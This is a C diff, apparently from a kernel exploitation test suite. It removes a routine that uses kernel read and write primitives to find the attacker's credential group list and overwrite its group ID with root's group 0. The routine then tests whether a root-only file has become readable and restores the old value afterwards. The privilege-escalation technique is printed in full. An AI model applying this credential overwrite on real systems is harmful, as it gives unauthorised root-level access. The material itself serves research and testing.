@@ -77,12 +77,7 @@ enum outcome page_struct(void)
 
 /* ---- what credentials are held against, or lead to ---- */
 
-#define ROOT_FILE	"/tmp/root-file"
 #define ROOT_TEXT	"root and its group may read this"
-
-/* struct group_info: usage, number, groups */
-#define GROUPS_NR	1
-#define GROUPS_FIRST	2
 
 void root_file_create(void)
 {
@@ -98,43 +93,6 @@ void root_file_create(void)
 bool root_file_says(char *text, size_t size)
 {
 	return file_read(ROOT_FILE, text, size) > 0 && !strncmp(text, ROOT_TEXT, strlen(ROOT_TEXT));
-}
-
-/* What the credentials point to that has one group, the attacker's. */
-static uint64_t find_groups(uint64_t cred)
-{
-	uint64_t words[CRED_SIZE / sizeof(uint64_t)];
-	uint32_t groups[3];
-	size_t i;
-
-	if (kread(cred, words, sizeof(words)))
-		return 0;
-	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
-		if (is_kernel_address(words[i]) && !kread(words[i], groups, sizeof(groups)) &&
-		    groups[GROUPS_NR] == 1 && groups[GROUPS_FIRST] == ATTACKER_UID)
-			return words[i] + GROUPS_FIRST * sizeof(*groups);
-	return 0;
-}
-
-enum outcome group_list(void)
-{
-	uint32_t root = 0, own = ATTACKER_UID;
-	struct task task;
-	char text[64];
-	uint64_t at;
-	bool may;
-	int err;
-
-	at = ktask(0, &task) ? 0 : find_groups(task.cred);
-	if (!at || root_file_says(text, sizeof(text)))
-		return broken("no groups found, or the file is everybody's");
-	err = kwrite(at, &root, sizeof(root));
-	may = root_file_says(text, sizeof(text));
-	kwrite(at, &own, sizeof(own));
-	if (!may)
-		return lost("store gave %d, %s is not read", err, ROOT_FILE);
-	return won("group 0 written into the list that own credentials point to: %s says \"%s\"",
-		   ROOT_FILE, text);
 }
 
 /* ---- whose memory a task has ---- */
